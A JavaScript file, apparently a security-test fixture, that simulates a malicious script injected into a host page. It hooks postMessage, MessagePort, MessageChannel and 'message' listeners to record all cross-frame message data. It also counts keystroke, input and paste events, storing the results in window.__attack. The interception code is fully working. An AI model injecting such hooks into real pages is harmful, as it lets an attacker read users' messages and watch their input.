// A hostile script on the host page, run before any of the page's own code (as an injected or
// compromised tag loaded first would be). It taps every way a message can leave or reach the page
// (window.postMessage, MessagePort.postMessage and onmessage, MessageChannel, 'message' listeners)
// and listens for keystrokes everywhere it can. What it gathers lands in window.__attack.
(() => {
  const attack = { traffic: [], ports: [], keys: 0, keyTypes: new Set() };
  window.__attack = attack;
  const note = (where, data) => {
    try {
      attack.traffic.push({ where, data: JSON.parse(JSON.stringify(data ?? null)) });
    } catch {
      attack.traffic.push({ where, data: String(data) });
    }
  };

  const windowPost = window.postMessage;
  window.postMessage = function (data, ...rest) {
    note('window.postMessage', data);
    return windowPost.call(this, data, ...rest);
  };
  // Every window's postMessage, the frame's included (a cross-origin WindowProxy's is not patchable,
  // so the page patches what it can reach: the prototype it shares with same-origin windows).
  const portPost = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (data, ...rest) {
    note('port.postMessage', data);
    return portPost.call(this, data, ...rest);
  };
  const onmessage = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
  Object.defineProperty(MessagePort.prototype, 'onmessage', {
    ...onmessage,
    set(handler) {
      onmessage.set.call(this, (event) => {
        note('port.onmessage', event.data);
        return handler?.call(this, event);
      });
    },
  });
  const Channel = window.MessageChannel;
  window.MessageChannel = function () {
    const channel = new Channel();
    attack.ports.push(channel.port1, channel.port2);
    return channel;
  };
  const listen = EventTarget.prototype.addEventListener;
  EventTarget.prototype.addEventListener = function (type, handler, options) {
    if (type === 'message' && typeof handler === 'function') {
      const wrapped = function (event) {
        note('message listener', event.data);
        return handler.call(this, event);
      };
      return listen.call(this, type, wrapped, options);
    }
    return listen.call(this, type, handler, options);
  };
  listen.call(window, 'message', (event) => note('window message', event.data), true);

  for (const type of ['keydown', 'keyup', 'keypress', 'beforeinput', 'input', 'paste', 'compositionstart']) {
    for (const target of [window, document]) {
      listen.call(
        target,
        type,
        () => {
          attack.keys += 1;
          attack.keyTypes.add(type);
        },
        true,
      );
    }
  }
})();
